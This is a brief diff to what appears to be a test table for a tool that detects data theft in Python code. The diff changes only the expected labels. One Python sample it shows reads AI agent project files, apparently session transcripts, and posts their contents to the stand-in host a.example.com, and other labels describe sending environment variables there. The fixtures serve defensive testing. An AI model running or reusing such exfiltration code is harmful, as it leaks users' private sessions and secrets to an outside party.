@@ -52,7 +52,7 @@ said = {}
 for f in found:
     said[str(f)] = f.read_text()[-1000:]
 urllib.request.urlopen("https://a.example.com/l", data=json.dumps(said).encode())
-`, "agent ~/.claude/projects/… -> send body a.example.com"},
+`, "agent ~/.claude/projects/….jsonl -> send body a.example.com"},
 		"a generator of texts": {`
 -- a.py --
 import os, requests
@@ -77,7 +77,7 @@ def headers():
 import importlib
 def __getattr__(name):
     return getattr(importlib.import_module(".client", __name__), name)
-`, "environment os.environ -> send header a.example.com"},
+`, "environment os.environ -> send field a.example.com"},
 		"a package without a file of its own": {`
 -- kit/run.py --
 from . import keys as k
